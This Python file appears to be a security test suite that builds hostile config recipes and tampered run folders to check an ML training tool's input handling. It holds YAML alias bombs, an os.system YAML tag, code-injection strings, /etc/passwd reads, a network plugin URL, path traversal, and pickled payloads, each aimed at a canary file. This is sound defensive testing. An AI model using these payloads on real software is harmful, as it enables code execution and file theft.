"""Recipes and run folders that somebody made to do harm, beside the files of `hostile_files`."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

from benchmarks.hostile_files import _pickled, _written, hostile


@hostile("recipe whose aliases unfold without end", "recipe")
def _(place: Path, canary: Path) -> Path:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 12)]
    return _written(place / "laughs.yaml", "\n".join([*lines, "task: *a11"]).encode())


@hostile("recipe with a tag that calls a function", "recipe", runs=True)
def _(place: Path, canary: Path) -> Path:
    text = f"task: !!python/object/apply:os.system ['touch {canary}']\n"
    return _written(place / "tag.yaml", text.encode())


@hostile("recipe nested 100,000 deep", "recipe")
def _(place: Path, canary: Path) -> Path:
    return _written(place / "deep.json", b'{"task": ' + b"[" * 100_000 + b"]" * 100_000 + b"}")


@hostile("recipe with a number of 100,000 digits", "recipe")
def _(place: Path, canary: Path) -> Path:
    return _written(place / "digits.toml", b'task = "tabular_classification"\nseed = ' + b"9" * 100_000)


@hostile("recipe whose names are code", "recipe")
def _(place: Path, canary: Path) -> Path:
    code = f"__import__('os').system('touch {canary}')"
    return _written(place / "code.toml", f'task = "{code}"\ndata = "os.system"\nmodel = "{{0.__class__}}"'.encode())


@hostile("recipe that reads a file of the system", "recipe")
def _(place: Path, canary: Path) -> Path:
    text = 'task = "tabular_classification"\ndata = { source = "table", path = "/etc/passwd", separator = ":" }\n'
    return _written(place / "system.toml", (text + 'init_from = "/etc/passwd"').encode())


@hostile("recipe with a plugin from the network", "recipe")
def _(place: Path, canary: Path) -> Path:
    text = 'plugins = ["https://192.0.2.1/evil.py"]\ntask = "tabular_classification"\ndata = "iris"\n'
    return _written(place / "network.toml", text.encode())


@hostile("recipe with a null character in a path", "recipe")
def _(place: Path, canary: Path) -> Path:
    text = 'task = "tabular_classification"\ndata = { source = "table", path = "a\\u0000.csv" }\n'
    return _written(place / "null.toml", text.encode())


@hostile("run that brings a plugin along", "run", runs=True, harmless=("init_from",))
def _(run: Path, canary: Path) -> Path:
    _written(run / "evil.py", f"open({str(canary)!r}, 'w').close()".encode())
    config = run / "config.toml"
    config.write_text(config.read_text().replace("plugins = []", 'plugins = ["evil.py"]'))
    return run


def _manifest(run: Path, act: Callable[[dict[str, Any]], Any], inner: bool = False) -> Path:
    """Change a run's manifest, or with a new seal a checkpoint's."""
    from trainwright.engine import checkpoint

    for path in [p / "manifest.json" for p in (run / "checkpoints").iterdir()] if inner else [run / "manifest.json"]:
        content = json.loads(path.read_text())
        content.pop("seal", None)
        act(content)
        path.write_text(json.dumps({**content, "seal": checkpoint._seal(content)} if inner else content))
    return run


@hostile("run whose manifest names a program", "run", harmless=("predict", "resume", "evaluate", "verify", "init_from"))
def _(run: Path, canary: Path) -> Path:
    _written(run / "evil.py", f"open({str(canary)!r}, 'w').close()".encode())
    code = {"class": "os.system", "plugins": [str(run / "evil.py")], "_instantiator": "os.system"}
    return _manifest(run, lambda m: m.update(plugins=["evil.py"], _target_="os.system") or m["model"].update(code))


@hostile("run whose manifest is nested 100,000 deep", "run", harmless=("init_from",))
def _(run: Path, canary: Path) -> Path:
    _written(run / "manifest.json", b'{"a": ' + b"[" * 100_000 + b"]" * 100_000 + b"}")
    return run


@hostile("run whose processor.json is a pickle", "run", runs=True, harmless=("init_from",))
def _(run: Path, canary: Path) -> Path:
    _written(run / "processor.json", _pickled(canary))
    return run


# verify begins from the seed where no checkpoint is sound
@hostile("checkpoint whose manifest climbs out", "run", harmless=("verify",))
def _(run: Path, canary: Path) -> Path:
    return _manifest(run, lambda m: m["files"].update({"../../../../etc/passwd": m["files"]["state.json"]}), inner=True)


@hostile("checkpoint whose manifest names an absolute file", "run", harmless=("verify",))
def _(run: Path, canary: Path) -> Path:
    return _manifest(run, lambda m: m["files"].update({"/etc/passwd": m["files"]["state.json"]}), inner=True)


@hostile("checkpoint with a null character in a name", "run", harmless=("verify",))
def _(run: Path, canary: Path) -> Path:
    return _manifest(run, lambda m: m["files"].update({"a\0b": m["files"]["state.json"]}), inner=True)


@hostile("checkpoint whose state is a link", "run", harmless=("verify",))
def _(run: Path, canary: Path) -> Path:
    for path in (run / "checkpoints").iterdir():
        (path / "state.json").rename(run / f"{path.name}.json")
        (path / "state.json").symlink_to(run / f"{path.name}.json")
    return run


def _state(run: Path, act: Callable[[dict[str, Any]], Any]) -> Path:
    """Change every state.json, with its digest and the seal."""
    from trainwright.engine import checkpoint

    for path in (run / "checkpoints").iterdir():
        state = json.loads((path / "state.json").read_text())
        act(state)
        (path / "state.json").write_text(json.dumps(state))
        told = {"size": (path / "state.json").stat().st_size, "sha256": checkpoint._digest(path / "state.json")}
        content = json.loads((path / "manifest.json").read_text())
        content.pop("seal")
        content["files"]["state.json"] = told
        (path / "manifest.json").write_text(json.dumps({**content, "seal": checkpoint._seal(content)}))
    return run


@hostile("checkpoint whose state names a class and a file", "run", harmless=("verify",))
def _(run: Path, canary: Path) -> Path:
    code = {"$": "object", "class": "os.system", "args": [f"touch {canary}"]}
    return _state(
        run, lambda s: s.update(model={k: {"$": "tensor", "name": "/etc/passwd"} for k in s["model"]}, x=code)
    )


@hostile("checkpoint whose tensors file is a pickle", "run", runs=True, harmless=("verify",))
def _(run: Path, canary: Path) -> Path:
    for path in (run / "checkpoints").iterdir():
        _written(path / "model.safetensors", _pickled(canary))
    return run
